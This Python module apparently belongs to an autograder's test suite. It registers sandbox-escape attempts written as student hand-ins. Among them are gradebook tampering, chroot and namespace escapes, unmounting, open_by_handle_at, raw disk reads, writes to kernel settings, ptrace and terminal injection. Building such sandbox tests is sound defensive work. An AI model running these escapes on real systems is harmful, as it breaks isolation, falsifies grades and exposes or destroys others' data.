"""Code that writes where it must not, or tries to leave what confines it."""

from __future__ import annotations

from typing import Final

from grading.attacks import ALL, Group
from grading.attacks.desk import Work
from grading.attacks.reach import REACHED, cell

GROUP = Group("reach")
AFTER: Final = """
    def behind():
        paths = (ROOT + "/canary.txt", VICTIM, HIDDEN, "/etc/shadow")
        return any_of(["/oldroot" + path for path in paths] + [*paths], len)
"""


def escape(name: str, tries: str, body: str) -> None:
    """Add an escape: it returns something true where it succeeds, and only then the student."""
    GROUP.work(name, tries, Work(REACHED, first=cell(AFTER + body), knows=True))


def writes(name: str, tries: str, body: str) -> None:
    """Add a hand-in with right answers that also writes; the files outside tell of success."""
    GROUP.work(name, tries, Work(first=cell(body), knows=True), ALL)


for name, tries, path in (
    ("gradebook-written", "Overwrites the gradebook.", 'ROOT + "/gradebook.db"'),
    ("neighbour-written", "Overwrites the hand-in of another student.", "VICTIM"),
    ("course-written", "Overwrites a file beside the gradebook.", 'ROOT + "/canary.txt"'),
    ("outside-written", "Overwrites a file that everybody may write.", 'OUTSIDE + "/open.txt"'),
    ("hidden-tests-written", "Changes the hidden tests.", "HIDDEN"),
):
    escape(
        name, tries, f'    with open({path}, "r+b") as file:\n        return file.write(b"#") or 1'
    )

escape(
    "gradebook-updated",
    "Opens the gradebook as a database and gives itself all points.",
    """
    import sqlite3
    book = sqlite3.connect(f"file:{ROOT}/gradebook.db?mode=rw", uri=True, timeout=1)
    book.execute("UPDATE grade SET manual_score = 100, needs_manual_grade = 0")
    book.commit()
    return True
""",
)
writes(
    "files-left-everywhere",
    "Leaves files wherever it may write.",
    """
    places = [ROOT, OUTSIDE, os.path.dirname(VICTIM), os.path.dirname(HIDDEN), *sys.path, "/",
              "/etc", "/usr/lib", "/var/tmp", "/tmp", "/dev/shm", "/run", os.path.expanduser("~")]
    for place in places:
        with quiet:
            os.makedirs(place, exist_ok=True)
            open(os.path.join(place, "attack_planted.pth"), "w").write("import attack_planted")
    """,
)
writes(
    "links-left-for-the-grader",
    "Puts links in the place of files that a grader would write for it.",
    """
    for name in ("roofline.ipynb", "feedback.html", "result.json", "timestamp.txt", "output"):
        with quiet:
            os.symlink(OUTSIDE + "/open.txt", name)
    with quiet:
        os.symlink(OUTSIDE, "autograded")
    """,
)
writes(
    "modes-changed",
    "Opens every file to everybody, and makes programs of its own that run as their owner.",
    """
    for place in (OUTSIDE, ROOT):
        for path in glob.glob(place + "/**", recursive=True):
            with quiet:
                os.chmod(path, 0o4777)
                os.utime(path, (0, 0))
    """,
)
writes(
    "outside-deleted",
    "Deletes what it finds beside the gradebook and in a folder that is open to all.",
    """
    import shutil
    for place in (OUTSIDE, ROOT + "/submitted", ROOT + "/autograded", ROOT + "/feedback"):
        shutil.rmtree(place, ignore_errors=True)
    """,
)
escape(
    "root-taken",
    "Becomes the superuser by every call that might grant it.",
    """
    for become in (os.setuid, os.seteuid, os.setgid, os.setegid):
        with quiet:
            become(0)
    with quiet:
        os.setgroups([0, 42])
    libc.capset(struct.pack("II", 0x20080522, 0), struct.pack("6I", *[2**32 - 1] * 6))
    return behind()
""",
)
escape(
    "root-by-command",
    "Asks programs that run as the superuser to read for it.",
    """
    for tool in (["sudo", "-n"], ["su", "-c"], ["pkexec"], ["doas", "-n"], ["newgrp"]):
        with quiet:
            done = subprocess.run([*tool, "cat", ROOT + "/canary.txt"], capture_output=True,
                                  stdin=subprocess.DEVNULL, timeout=2)
            if canary(done.stdout):
                return True
""",
)
escape(
    "masks-lifted",
    "Unmounts what was laid over the files that it must not see.",
    """
    for path in (ROOT, HIDDEN, os.path.dirname(HIDDEN), "/tmp", "/proc", "/dev/shm", "/etc", "/"):
        while libc.umount2(path.encode(), 2) == 0:
            pass
    return behind()
""",
)
escape(
    "masks-lifted-in-a-namespace",
    "Becomes the superuser of a namespace of its own, and unmounts there.",
    """
    libc.unshare(0x10000000 | 0x20000)
    for path in ("/tmp", "/proc", os.path.dirname(HIDDEN), ROOT):
        libc.umount2(path.encode(), 2)
    libc.mount(b"proc", b"/proc", b"proc", 0, None)
    libc.mount(b"/", b"/tmp", None, 4096 | 16384, None)
    return behind() or any_of(glob.glob("/proc/*/environ"))
""",
)
escape(
    "namespaces-joined",
    "Joins the namespaces of every other process that it can name.",
    """
    for path in glob.glob("/proc/[0-9]*/ns/*"):
        with quiet:
            libc.setns(os.open(path, os.O_RDONLY), 0)
    return behind()
""",
)
escape(
    "root-changed-twice",
    "Leaves its root folder by changing it while another folder is open.",
    """
    os.makedirs("jail", exist_ok=True)
    top = os.open(".", os.O_RDONLY)
    os.chroot("jail")
    os.fchdir(top)
    for _ in range(64):
        os.chdir("..")
    os.chroot(".")
    return behind()
""",
)
escape(
    "files-opened-by-number",
    "Opens the root folder of the disk by its number, past every mount.",
    """
    for start in ("/", "/usr", "/etc/hostname", "/etc/resolv.conf", sys.prefix, "."):
        with quiet:
            handle = ctypes.create_string_buffer(struct.pack("IiII", 8, 1, 2, 0), 16)
            top = libc.open_by_handle_at(os.open(start, os.O_RDONLY), handle, os.O_RDONLY)
            if top >= 0:
                return os.listdir(top)
""",
)
escape(
    "disks-read",
    "Makes the device of a disk and reads it.",
    """
    for major, minor in ((8, 0), (8, 1), (253, 0), (254, 0), (259, 0), (7, 0), (1, 1)):
        with quiet:
            os.mknod(f"disk{major}.{minor}", 0o600 | stat.S_IFBLK, os.makedev(major, minor))
        with quiet:
            if read(f"disk{major}.{minor}", 4096):
                return True
    return any_of(["/dev/mem", "/dev/kmem", "/dev/sda", "/dev/vda", "/dev/nvme0n1"], len)
""",
)
escape(
    "kernel-set",
    "Opens settings of the kernel that would run a program of its own outside.",
    """
    paths = ("/proc/sys/kernel/core_pattern", "/proc/sys/kernel/modprobe", "/proc/sysrq-trigger",
             "/sys/kernel/uevent_helper", "/proc/sys/fs/binfmt_misc/register",
             *glob.glob("/sys/fs/cgroup/**/release_agent", recursive=True))
    for path in paths:
        with quiet:
            return os.open(path, os.O_WRONLY)
""",
)
escape(
    "processes-traced",
    "Attaches to every other process as a debugger does.",
    """
    for pid in {*range(2, 400), os.getppid(), GRADER} - {0, os.getpid()}:
        if libc.ptrace(16, pid, None, None) == 0:
            libc.ptrace(17, pid, None, None)
            return pid
""",
)
escape(
    "grader-signalled",
    "Sends a signal to the process that grades, and changes its limits.",
    """
    import resource
    for reach_out in (lambda: os.kill(GRADER, 0), lambda: resource.prlimit(GRADER, 7),
                      lambda: os.setpriority(0, GRADER, 19), lambda: os.pidfd_open(GRADER)):
        with quiet:
            reach_out()
            return True
""",
)
escape(
    "terminal-typed-on",
    "Types a command on the terminal of whoever started the grader.",
    """
    import fcntl, termios
    for path in ("/dev/tty", "/dev/pts/0", "/dev/console", "/dev/stdin"):
        with quiet:
            fcntl.ioctl(os.open(path, os.O_RDWR | os.O_NOCTTY), termios.TIOCSTI, b" ")
            return path
""",
)
